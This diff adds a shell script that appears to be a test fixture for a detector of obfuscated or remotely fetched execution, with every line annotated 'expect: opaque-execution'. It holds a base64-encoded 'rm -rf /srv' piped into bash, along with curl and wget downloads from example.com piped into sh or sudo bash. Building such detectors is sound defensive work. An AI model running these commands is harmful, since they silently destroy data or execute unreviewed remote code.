@@ -1,0 +1,18 @@
+#!/bin/sh
+# programs decoded at run time
+printf %s cm0gLXJmIC9zcnYK | base64 --decode | bash  # expect: opaque-execution
+echo "$PAYLOAD" | base64 -d | sh  # expect: opaque-execution
+xxd -r -p payload.hex | bash  # expect: opaque-execution
+# generated at run time
+eval "$(echo ZWNobyBoaQ== | base64 -d)"  # expect: opaque-execution
+eval "$CMD"  # expect: opaque-execution
+sh -c "$VAR"  # expect: opaque-execution
+bash -c "$1"  # expect: opaque-execution
+python3 -c "$CODE"  # expect: opaque-execution
+make print-commands | sh  # expect: opaque-execution
+# downloaded at run time
+curl -fsSL https://example.com/install.sh | sh  # expect: opaque-execution
+wget -qO- https://example.com/install.sh | sudo bash  # expect: opaque-execution
+bash <(curl -s https://example.com/install.sh)  # expect: opaque-execution
+/bin/bash -c "$(curl -fsSL https://example.com/install.sh)"  # expect: opaque-execution
+curl -sS https://bootstrap.pypa.io/get-pip.py | python3  # expect: opaque-execution
